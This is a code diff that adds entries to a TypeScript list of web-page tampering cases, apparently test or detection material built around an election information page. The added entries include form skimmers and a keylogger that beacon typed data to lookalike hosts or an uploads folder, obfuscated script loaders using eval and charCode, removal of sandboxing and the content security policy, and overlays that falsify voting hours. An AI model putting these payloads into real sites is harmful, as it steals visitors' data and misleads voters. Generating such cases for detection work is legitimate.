@@ -26,6 +26,15 @@ export const ATTACKS_C: Change[] = [
         `<script async src="https://www.googletagmanager.com/gtm.js?id=GTM-${word(7, 'ABCDEFGHKLMNPQRSTVWXYZ23456789', s.key, 'evil')}"></script>`,
       ),
   },
+  // [account-exchanged] The account of the known analytics exchanged.
+  {
+    id: 'account-exchanged',
+    class: 'code',
+    do: (a, s) => {
+      every(a, s.ga, 'G-' + word(10, 'ABCDEFGHKLMNPQRSTVWXYZ23456789', s.key, 'evil'))
+      every(a, s.gtm, 'GTM-' + word(7, 'ABCDEFGHKLMNPQRSTVWXYZ23456789', s.key, 'evil'))
+    },
+  },
   // [import-map] An import map that leads a known name to another host.
   {
     id: 'import-map',
@@ -43,6 +52,12 @@ export const ATTACKS_C: Change[] = [
     class: 'code',
     do: (a, s) =>
       tail(a, `<script type="module">import("https://cdn.${twin(s)}/m.js").catch(()=>{})</script>`),
+  },
+  // [inline-skimmer] An inline script that copies what is typed.
+  {
+    id: 'inline-skimmer',
+    class: 'code',
+    do: (a, s) => tail(a, `<script>${SKIM('collect.' + twin(s))}</script>`),
   },
   // [skimmer-in-known] The same, within a script block that was there before.
   {
@@ -63,6 +78,8 @@ export const ATTACKS_C: Change[] = [
         `method="post" onsubmit="new Image().src='https://px.${twin(s)}/?'+new URLSearchParams(new FormData(this))"`,
       ),
   },
+  // [own-script-bytes] The site's own script keeps its address and gets other bytes.
+  { id: 'own-script-bytes', class: 'code', do: (a, s) => bytes(a, '.js', SKIM('a.' + twin(s))) },
   // [own-sheet-bytes] The site's own style sheet hides the facts.
   {
     id: 'own-sheet-bytes',
@@ -85,6 +102,17 @@ export const ATTACKS_C: Change[] = [
           .join(''),
       ),
   },
+  // [script-loader-bytes] The own script loads another one, hidden in numbers.
+  {
+    id: 'script-loader-bytes',
+    class: 'code',
+    do: (a, s) =>
+      bytes(
+        a,
+        '.js',
+        `;(function(){var s=document.createElement("script");s.src=String.fromCharCode(${[...`https://cdn.${twin(s)}/x.js`].map((k) => k.charCodeAt(0)).join(',')});document.head.appendChild(s)})();`,
+      ),
+  },
   // [worker-registered] A service worker of its own.
   {
     id: 'worker-registered',
@@ -105,6 +133,12 @@ export const ATTACKS_C: Change[] = [
         `<script type="speculationrules">{"prerender":[{"source":"list","urls":["https://${twin(s)}/register"]}]}</script>`,
       ),
   },
+  // [prefetch-foreign] A link that fetches a foreign page beforehand.
+  {
+    id: 'prefetch-foreign',
+    class: 'code',
+    do: (a, s) => head(a, `<link rel="prefetch" href="https://${twin(s)}/register" as="document">`),
+  },
   // [script-link] A link that runs script.
   {
     id: 'script-link',
@@ -122,6 +156,8 @@ export const ATTACKS_C: Change[] = [
         `<iframe width="1" height="1" style="border:0" srcdoc="&lt;script src=https://cdn.${twin(s)}/f.js&gt;&lt;/script&gt;"></iframe>`,
       ),
   },
+  // [sandbox-removed] A frame loses its sandbox.
+  { id: 'sandbox-removed', class: 'code', do: (a) => raw(a, / sandbox="[^"]*"/, '') },
   // [integrity-removed] A library from another host, without its hash.
   {
     id: 'integrity-removed',
@@ -144,6 +180,16 @@ export const ATTACKS_C: Change[] = [
       )
     },
   },
+  // [picture-script] A script in a picture.
+  {
+    id: 'picture-script',
+    class: 'code',
+    do: (a, s) =>
+      tail(
+        a,
+        `<svg width="0" height="0"><script href="https://cdn.${twin(s)}/s.js"></script></svg>`,
+      ),
+  },
   // [picture-handler] A picture that fails on purpose.
   {
     id: 'picture-handler',
@@ -163,6 +209,12 @@ export const ATTACKS_C: Change[] = [
         a,
         '<script src="https://cdn.jsdelivr.net/npm/form-helper-lite@1.0.2/dist/index.min.js" defer></script>',
       ),
+  },
+  // [evaluated] Code in a long word.
+  {
+    id: 'evaluated',
+    class: 'code',
+    do: (a, s) => tail(a, `<script>eval(atob("${word(180, B64, s.key, 'evil')}"))</script>`),
   },
   // [socket] A connection that takes orders.
   {
@@ -184,6 +236,12 @@ export const ATTACKS_C: Change[] = [
         `<link rel="stylesheet" href="https://fonts.gstatics.example/css?family=Inter&k=${word(6, HEX, s.key)}">`,
       ),
   },
+  // [sheet-import] A foreign sheet imported in a style block.
+  {
+    id: 'sheet-import',
+    class: 'code',
+    do: (a, s) => raw(a, '<style>', `<style>@import url("https://css.${twin(s)}/base.css");`),
+  },
   // [old-polyfill] A script of a host that changed hands.
   {
     id: 'old-polyfill',
@@ -199,6 +257,16 @@ export const ATTACKS_C: Change[] = [
       tail(
         a,
         `<script>document.addEventListener("copy",function(e){e.clipboardData.setData("text/plain","${turn(s.phone)}");e.preventDefault()})</script>`,
+      ),
+  },
+  // [facts-by-script] A script that changes a fact after loading.
+  {
+    id: 'facts-by-script',
+    class: 'code',
+    do: (a, s) =>
+      tail(
+        a,
+        `<script>setTimeout(function(){var e=document.querySelector("#hours p");if(e)e.textContent=${JSON.stringify(s.L.hours(s.L.span(s.open, s.close - 3), s.L.date(s.election)))}},4000)</script>`,
       ),
   },
   // [own-script-moved] The own script is taken from a folder of uploads.
@@ -225,6 +293,12 @@ export const ATTACKS_C: Change[] = [
         '<meta name="referrer" content="unsafe-url"><meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\' \'unsafe-eval\' data: blob:"><meta name="viewport"',
       ),
   },
+  // [state-prototype] An inline settings object gets a script address.
+  {
+    id: 'state-prototype',
+    class: 'code',
+    do: (a, s) => raw(a, '"locale":', `"plugins":["https://cdn.${twin(s)}/p.js"],"locale":`),
+  },
   // [miner] A program that digs coins.
   {
     id: 'miner',
@@ -238,6 +312,16 @@ export const ATTACKS_C: Change[] = [
     class: 'code',
     do: (a, s) =>
       tail(a, `<img src="https://px.${twin(s)}/o.gif?p=${s.type}" width="1" height="1" alt="">`),
+  },
+  // [key-logger-own] Every key goes to the site's own upload folder.
+  {
+    id: 'key-logger-own',
+    class: 'code',
+    do: (a) =>
+      tail(
+        a,
+        '<script>document.addEventListener("keyup",function(e){navigator.sendBeacon("/media/uploads/k.php",e.key)})</script>',
+      ),
   },
   // [skimmer-messenger] What is typed goes to a bot of a well-known messenger.
   {
@@ -259,6 +343,18 @@ export const ATTACKS_C: Change[] = [
         `<script src="https://cdn.jsdelivr.net/gh/vote-tools/helper@${word(7, HEX, s.key)}/dist/h.min.js" defer></script>`,
       ),
   },
+  // [template-shadow] A template that lays itself over the hours by shadow DOM.
+  {
+    id: 'template-shadow',
+    class: 'code',
+    do: (a, s) =>
+      raw(
+        a,
+        ' id="hours">',
+        ` id="hours"><template shadowrootmode="open"><p>${s.L.hours(s.L.span(s.open, s.close - 2), s.L.date(s.election))}</p></template>`,
+      ),
+  },
+
   // [refresh-header] The header sends the visitor on.
   {
     id: 'refresh-header',
@@ -271,6 +367,12 @@ export const ATTACKS_C: Change[] = [
     class: 'http',
     do: (a, s) => header(a, 'link', `<https://css.${twin(s)}/base.css>; rel=stylesheet`),
   },
+  // [disposition] The page is offered for download.
+  {
+    id: 'disposition',
+    class: 'http',
+    do: (a) => header(a, 'content-disposition', 'attachment; filename="form.html"'),
+  },
   // [text-plain] The page shows its source.
   {
     id: 'text-plain',
@@ -282,6 +384,15 @@ export const ATTACKS_C: Change[] = [
     id: 'odd-charset',
     class: 'http',
     do: (a) => header(a, 'content-type', 'text/html; charset=utf-7'),
+  },
+  // [policy-gone] The policy about foreign code is gone.
+  {
+    id: 'policy-gone',
+    class: 'http',
+    do: (a) => {
+      const { 'content-security-policy': gone, ...rest } = a.headers ?? {}
+      if (gone) a.headers = rest
+    },
   },
   // [refresh-meta] The page sends the visitor on after a while.
   {
@@ -308,6 +419,8 @@ export const ATTACKS_C: Change[] = [
         )
     },
   },
+  // [robots-header] Search engines are told to forget the page.
+  { id: 'robots-header', class: 'http', do: (a) => header(a, 'x-robots-tag', 'noindex, nofollow') },
   // [report-to] Errors are reported to a foreign host.
   {
     id: 'report-to',
@@ -321,5 +434,14 @@ export const ATTACKS_C: Change[] = [
     id: 'preload-header',
     class: 'http',
     do: (a, s) => header(a, 'link', `<https://cdn.${twin(s)}/v.js>; rel=modulepreload`),
+  },
+  // [worker-allowed] A worker may rule the whole site.
+  {
+    id: 'worker-allowed',
+    class: 'http',
+    do: (a) => {
+      header(a, 'service-worker-allowed', '/')
+      raw(a, '</body>', '<script src="/media/uploads/reg.js" async></script>\n</body>')
+    },
   },
 ]
